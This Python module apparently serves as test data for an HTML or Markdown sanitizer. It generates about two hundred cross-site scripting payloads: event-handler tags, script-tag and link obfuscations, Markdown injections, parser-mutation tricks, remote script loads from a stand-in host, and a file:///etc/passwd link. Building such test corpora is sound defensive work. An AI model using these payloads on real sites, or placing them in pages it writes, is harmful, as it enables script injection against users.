"""Two hundred texts that try to run a script where they are shown, one way each. RAN is what they all would do."""

from itertools import product

RAN = "parent.ran=1"
ELSEWHERE = "https://elsewhere.test/"

# Tags with a handler that needs nobody's hand, where it exists at all.
_TAGS = {
    "img": "src=x", "svg": "", "video": "src=x", "audio": "src=x", "iframe": "src=x", "object": "data=x", "embed": "src=x",
    "body": "", "input": "autofocus", "details": "open", "math": "", "style": "", "a": "href=x autofocus", "div": "tabindex=0 autofocus",
}  # fmt: skip
_HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onbegin",
    "onpageshow",
    "onanimationstart",
    "onpointerrawupdate",
)
_EVENTS = [f"<{tag} {rest} {handler}={RAN}>" for (tag, rest), handler in product(_TAGS.items(), _HANDLERS)]

_SCRIPTS = [
    f"<script>{RAN}</script>", f"<ScRiPt>{RAN}</sCrIpT>", f"<script/x>{RAN}</script>", f"<script\n>{RAN}</script\n>",
    f"<<script>{RAN}//<</script>", f"<scr<script>ipt>{RAN}</scr</script>ipt>", f"\"><script>{RAN}</script>",
    f"'><script>{RAN}</script>", f"--><script>{RAN}</script>", f"]]><script>{RAN}</script>", f"</script><script>{RAN}</script>",
    f"</title><script>{RAN}</script>", f"</textarea><script>{RAN}</script>", f"</style><script>{RAN}</script>",
    f"</template><script>{RAN}</script>", f"</noscript><script>{RAN}</script>", f"<script src={ELSEWHERE}x.js></script>",
    f"<script type=module src={ELSEWHERE}x.js></script>", f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"&#60;script&#62;{RAN}&#60;/script&#62;", f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e", f"%3Cscript%3E{RAN}%3C/script%3E",
    f"\ufe64script\ufe65{RAN}\ufe64/script\ufe65", f"{{{{constructor.constructor('{RAN}')()}}}}", f"${{{RAN}}}", f"{{% raw %}}<script>{RAN}</script>",
]  # fmt: skip

_LINKS = [
    f"[a](javascript:{RAN})", f"[a](JaVaScRiPt:{RAN})", f"[a](java\tscript:{RAN})", f"[a](java&#10;script:{RAN})",
    f"[a](javascript&colon;{RAN})", f"[a](&#106;avascript:{RAN})", f"[a](\x01javascript:{RAN})", f"[a](vbscript:{RAN})",
    f"[a](data:text/html,<script>{RAN}</script>)", "[a](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=)",
    f"[a](blob:{RAN})", "[a](file:///etc/passwd)", f"<javascript:{RAN}>", f"[a]: javascript:{RAN}\n\n[a]", f"![a](javascript:{RAN})",
    f"![a]({ELSEWHERE}x.png)", f"[![a]({ELSEWHERE}y.png)](javascript:{RAN})", f"![a](x\" onerror=\"{RAN})", f"[a](x\" onmouseover=\"{RAN})",
    f"[a](<javascript:{RAN}>)", f"[a](//elsewhere.test/\" autofocus onfocus=\"{RAN})", f"http://a.test/\"onmouseover={RAN}//",
    f"mailto:a@b.test?\"onfocus={RAN}", f"[a](https://a.test \"title\\\" onfocus={RAN}\")", f"<https://a.test/\"onfocus={RAN}>",
]  # fmt: skip

_BLOCKS = [
    f"```\" onload={RAN}\nx\n```", f"```<img src=x onerror={RAN}>\nx\n```", f"`<img src=x onerror={RAN}>`", f"# <img src=x onerror={RAN}>",
    f"> <svg/onload={RAN}>", f"- <img src=x onerror={RAN}>", f"| <img src=x onerror={RAN}> |\n|---|\n| <svg onload={RAN}> |",
    f"$<img src=x onerror={RAN}>$", f"$$\\href{{javascript:{RAN}}}{{x}}$$", f"*<img src=x onerror={RAN}>*", f"~~<svg/onload={RAN}>~~",
    f"[x]: <img src=x onerror={RAN}>", f"<!--<img src=--><img src=x onerror={RAN}>-->", f"<![CDATA[<img src=x onerror={RAN}>]]>",
    f"<?php ?><img src=x onerror={RAN}>", f"[1](x)<img src=x onerror={RAN}>[1]",
]  # fmt: skip

# What one parser closes and the next one opens.
_MUTATIONS = [
    f"<math><mtext><table><mglyph><style><img src=x onerror={RAN}></style></mglyph></table></mtext></math>",
    f"<svg></p><style><a id=\"</style><img src=x onerror={RAN}>\">", f"<noscript><p title=\"</noscript><img src=x onerror={RAN}>\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RAN}>",
    f"<svg><desc><noscript></noscript><img src=x onerror={RAN}></desc></svg>", f"<template><img src=x onerror={RAN}></template>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>", f"<svg><set onbegin={RAN} attributeName=x to=1>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x><script>{RAN}</script></svg>#x\">", f"<iframe srcdoc=\"<script>{RAN}</script>\"></iframe>",
    f"<iframe src=javascript:{RAN}></iframe>", f"<object data=javascript:{RAN}></object>", f"<embed src=javascript:{RAN}>",
    f"<form action=javascript:{RAN}><button autofocus>x</button></form>", f"<button formaction=javascript:{RAN} autofocus>x</button>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{RAN}\">", f"<meta http-equiv=refresh content=\"0;url={ELSEWHERE}\">",
    f"<base href={ELSEWHERE}>", f"<link rel=stylesheet href={ELSEWHERE}x.css>", f"<link rel=preload as=script href={ELSEWHERE}x.js>",
    f"<style>@import '{ELSEWHERE}x.css';</style>", f"<div style=\"background:url({ELSEWHERE}x.png)\">x</div>",
    f"<img src={ELSEWHERE}x.png>", f"<img srcset=\"{ELSEWHERE}x.png 1x\">", f"<video poster={ELSEWHERE}x.png></video>",
    f"<audio src={ELSEWHERE}x.mp3 autoplay></audio>", f"<body background={ELSEWHERE}x.png>", f"<table background={ELSEWHERE}x.png>",
    f"<xss id=x tabindex=1 autofocus onfocus={RAN}>", f"<marquee onstart={RAN}>x</marquee>", f"<dialog open onclose={RAN}>x</dialog>",
    f"<portal src=javascript:{RAN}>", f"<isindex type=image src=x onerror={RAN}>", "<img src=x onerror=&#112;arent.ran&#61;1>",
    f"<img src=\"x`<script>{RAN}</script>\"` `>", f"<a href=\"\x0bjavascript:{RAN}\" autofocus onfocus={RAN}>x</a>",
    f"<img/src=x/onerror={RAN}>", f"<img\x0csrc=x\x0conerror={RAN}>", f"<img src=x\x00 onerror={RAN}>".replace("\x00", "\ufffd"),
    f"<svg><script href=data:,{RAN} />", f"<svg><foreignObject><iframe srcdoc='<script>{RAN}</script>'></iframe></foreignObject></svg>",
]  # fmt: skip

HOSTILE = list(dict.fromkeys([*_SCRIPTS, *_LINKS, *_BLOCKS, *_MUTATIONS, *_EVENTS]))
